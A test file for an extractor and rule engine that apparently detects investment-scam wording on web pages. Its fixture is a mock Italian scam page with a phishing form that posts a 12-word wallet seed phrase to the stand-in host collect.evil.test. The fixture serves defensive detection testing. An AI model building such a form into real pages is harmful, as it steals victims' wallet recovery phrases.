import { snapshotFromHtml, withParsedHtml } from '../../../scripts/parse-html.ts';
import { describe, expect, it } from 'vitest';
import { evaluatePage } from '../../../rules/engine/index.ts';
import { extractSnapshot } from '../../../rules/extract.ts';
import { PageSnapshotSchema, TEXT_BREAK } from '../../../rules/snapshot.ts';

const html = `<!doctype html><html lang="it"><head><title> Piano VIP </title><style>.x{}</style></head><body>
<h1>Profitto garantito</h1><script>var hidden = "do not read";</script><noscript>no js</noscript>
<template><p>template text</p></template><svg><text>svg text</text></svg>
<p>Deposito minimo <b>100 €</b></p>
<form action="https://collect.evil.test/seed" method="POST"><input name="phrase" placeholder="12 words"><textarea id="k"></textarea><select name="coin"></select></form>
<a href="https://t.me/x">tg</a><a href="/local">local</a><a href="mailto:a@b.c">mail</a></body></html>`;

describe('extractSnapshot', () => {
  const snap = snapshotFromHtml(html, 'https://site.test/page');

  it('keeps visible text and skips script, style, noscript, template and svg', () => {
    expect(snap.text).toContain('Profitto garantito');
    expect(snap.text).toContain('Deposito minimo');
    for (const hidden of ['do not read', 'no js', 'template text', 'svg text', '.x{}']) expect(snap.text).not.toContain(hidden);
  });

  it('reads title, lang, forms with their fields, and hosts of absolute links and form actions', () => {
    expect(snap.title).toBe('Piano VIP');
    expect(snap.lang).toBe('it');
    expect(snap.forms).toHaveLength(1);
    expect(snap.forms[0]!.method).toBe('post');
    expect(snap.forms[0]!.fields.map((f) => [f.name, f.tag])).toEqual([['phrase', 'input'], ['', 'textarea'], ['coin', 'select']]);
    expect(snap.forms[0]!.fields[0]!.placeholder).toBe('12 words');
    expect(snap.links.sort()).toEqual(['collect.evil.test', 't.me']);
    expect(PageSnapshotSchema.safeParse(snap).success).toBe(true);
  });

  it('caps the text', () => {
    const big = `<html><body><p>${'a '.repeat(50_000)}</p></body></html>`;
    expect(withParsedHtml(big, (doc) => extractSnapshot(doc, '', { maxTextChars: 1000 })).text.length).toBeLessThanOrEqual(1000);
  });
});

describe('extractSnapshot keeps element boundaries', () => {
  const ids = (html: string) => evaluatePage(snapshotFromHtml(html, 'https://site.test/')).signals.map((s) => s.id);
  const RISK_FREE = 'returns.risk_free';
  const GUARANTEED = 'returns.guaranteed';

  it('never reads two menu items as one phrase ("…Risk" + "Free…" is no "risk free")', () => {
    const menus = [
      '<nav><ul><li><a href="/low">Low Risk</a></li><li><a href="/demo">Free Demo Account</a></li></ul></nav>',
      '<div class="menu"><a href="/low">Low Risk</a><a href="/demo">Free Demo Account</a></div>',
      '<div class="menu"><a href="/low">Low Risk</a> | <a href="/demo">Free Demo Account</a></div>',
      '<div><div>Low Risk</div><div>Free Demo Account</div></div>',
      '<ul><li>Low Risk<li>Free Demo Account</ul>',
    ];
    for (const menu of menus) expect(ids(menu), menu).not.toContain(RISK_FREE);
  });

  it('never reads two table cells as one phrase', () => {
    expect(ids('<table><tr><th>Guaranteed</th><td>Profit</td></tr></table>')).not.toContain(GUARANTEED);
    expect(ids('<table><tr><td>Risk</td><td>Free</td></tr></table>')).not.toContain(RISK_FREE);
  });

  it('still reads a phrase split by inline markup or a link inside a sentence', () => {
    expect(ids('<p>Low risk free demo account</p>')).toContain(RISK_FREE);
    expect(ids('<p>Totally <b>risk</b> free</p>')).toContain(RISK_FREE);
    expect(ids('<p>Totally <a href="/r">risk</a> free</p>')).toContain(RISK_FREE);
    expect(ids('<table><tr><td>Guaranteed profit</td></tr></table>')).toContain(GUARANTEED);
    expect(ids('<h1>Guaranteed<br>profit</h1>')).toContain(GUARANTEED);
  });

  it('joins text nodes as a browser shows them and turns the page\'s own separators into spaces', () => {
    const text = snapshotFromHtml('<p><b>Pro</b>fit\n  every\u2029day</p><p>next</p>', '').text;
    expect(text).toBe(`Profit every day${TEXT_BREAK}next`);
  });
});
